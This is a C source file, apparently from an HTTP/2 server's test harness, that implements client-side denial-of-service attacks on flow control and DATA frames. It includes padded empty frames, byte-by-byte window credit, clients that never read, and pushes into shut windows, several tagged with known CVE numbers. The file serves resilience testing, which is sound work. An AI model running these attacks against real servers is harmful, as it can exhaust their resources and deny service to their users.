/*
 * attack/data.c - DATA in either direction, and the windows for it.
 */
#include "tests/helpers/attack/attack.h"
#include "tests/helpers/attack/units.h"

/* variant 1: nothing but padding. */
static bool step_empty_data(struct peer *peer) {
  units_hold_open(peer, true, "/echo");
  if (peer->options->variant == 0) {
    peer_put_head(peer, 0, DATA, 0, 1);
    return true;
  }
  if (peer->credit < 256 || peer->stream_credit < 256) return false;
  peer->credit -= 256;
  peer->stream_credit -= 256;
  peer_put_head(peer, 256, DATA, PADDED, 1);
  peer_put(peer, "\xff", 1);
  peer_put_zeros(peer, 0, 255);
  return true;
}

/* A body in frames of `variant` bytes, within the windows. We let none of its echo come back. */
static bool step_small_data(struct peer *peer) {
  const int64_t bytes = peer->options->variant ? peer->options->variant : 1;
  units_hold_open(peer, true, "/echo");
  if (peer->credit < bytes || peer->stream_credit < bytes) return false;
  peer->credit -= bytes;
  peer->stream_credit -= bytes;
  peer_put_head(peer, (size_t)bytes, DATA, 0, 1);
  peer_put_zeros(peer, 'd', (size_t)bytes);
  return true;
}

/* An upload in frames of 10 bytes. The window allows enough of them. */
static bool step_sink(struct peer *peer) {
  const uint64_t bytes = 10;
  units_hold_open(peer, true, "/sink");
  if (peer->credit < (int64_t)bytes || peer->stream_credit < (int64_t)bytes) return false;
  peer->credit -= (int64_t)bytes;
  peer->stream_credit -= (int64_t)bytes;
  peer_put_frame(peer, DATA, 0, 1, "0123456789", bytes);
  return true;
}

static void begin_bytewise(struct peer *peer) {
  peer_put_setting(peer, SETTING_WINDOW, 1);
  for (int i = 0; i < 100; i++)
    peer_put_request(peer, false, "/bytes/1000000", true);
}

/* Credit byte by byte, as often as it makes the server send. */
static bool step_dribble(struct peer *peer) {
  if (peer->granted == 0) return false;
  peer_put_number(peer, WINDOW_UPDATE, 0, peer->granted);
  peer->granted = 0;
  peer_put_number(peer, WINDOW_UPDATE, peer->granted_id, 1);
  return true;
}

static void begin_downloads(struct peer *peer) {
  units_begin_closed(peer);
  for (int i = 0; i < 100; i++)
    peer_put_request(peer, false, "/bytes/100000000", true);
}

/* Looks alive once a second. variant 0: says nothing; 1: PING; 2: one byte of credit a stream. */
static bool step_hold(struct peer *peer) {
  if (!units_wait_for(peer, 1000) || peer->options->variant == 0) return false;
  if (peer->options->variant == 1) return units_ping(peer);
  peer_put_number(peer, WINDOW_UPDATE, 0, 100);
  for (uint32_t id = 1; id < peer->next_id; id += 2)
    peer_put_number(peer, WINDOW_UPDATE, id, 1);
  return true;
}

/* Wide windows and many large downloads, from a client that does not read. */
static bool step_download(struct peer *peer) {
  if (peer->in_flight >= 100) return false;
  peer_put_request(peer, false, "/bytes/1000000000", true);
  return true;
}

/* Credit in the smallest steps that count as useful, for 100 responses at once. variant: bytes. */
static bool step_small_credit(struct peer *peer) {
  if (peer->next_id == 1)
    for (int i = 0; i < 100; i++)
      peer_put_request(peer, false, "/bytes/1000000000", true);
  const uint32_t id = 1 + 2 * (uint32_t)(peer->units % 100);
  if (peer->frames[DATA] + 200 < peer->units) return false; /* not ahead of the server */
  peer_put_number(peer, WINDOW_UPDATE, 0, peer->options->variant);
  peer_put_number(peer, WINDOW_UPDATE, id, peer->options->variant);
  return true;
}

/* Pages that push their resources into shut windows, to a client that allows any number of pushes:
 * they must still be bounded. A page that is reset makes room for the next, while its budget lasts.
 */
static bool step_hoard_pushes(struct peer *peer) {
  if (peer->units >= 100) return false;
  const uint32_t id = peer_put_request(peer, false, peer->options->path, true);
  if (peer->units < 50) peer_put_number(peer, RST_STREAM, id, 8);
  return true;
}

static void begin_hoard_pushes(struct peer *peer) {
  peer_put_head(peer, 18, SETTINGS, 0, 0);
  peer_put(peer,
           "\0\2\0\0\0\1"
           "\0\3\x7f\xff\xff\xff"
           "\0\4\0\0\0\0",
           18);
}

/* 100 downloads of which one byte is taken, each. */
static void begin_hold_files(struct peer *peer) {
  peer_put_head(peer, 6, SETTINGS, 0, 0);
  peer_put(peer, "\0\4\0\0\0\1", 6);
  for (int i = 0; i < 100; i++)
    peer_put_request(peer, false, peer->options->path, true);
}

static const struct attack attacks[] = {
    {"empty-data", "CVE-2019-9518", step_empty_data, NULL, false},
    {"small-data", "CVE-2020-12603", step_small_data, units_begin_closed, false},
    {"sink", "an upload in frames of 10 bytes", step_sink, NULL, false},
    {"dribble", "CVE-2019-9511", step_dribble, begin_bytewise, false},
    {"hold", "CVE-2023-43622", step_hold, begin_downloads, false},
    {"download", "CVE-2019-9517", step_download, units_begin_wide, false},
    {"small-credit", "windows opened in small steps", step_small_credit, units_begin_closed, false},
    {"hoard-pushes", "pushes into shut windows", step_hoard_pushes, begin_hoard_pushes, false},
    {"hold-files", "downloads that stop immediately", units_idle, begin_hold_files, false},
};

const struct attack_list attack_data = ATTACK_LIST(attacks);
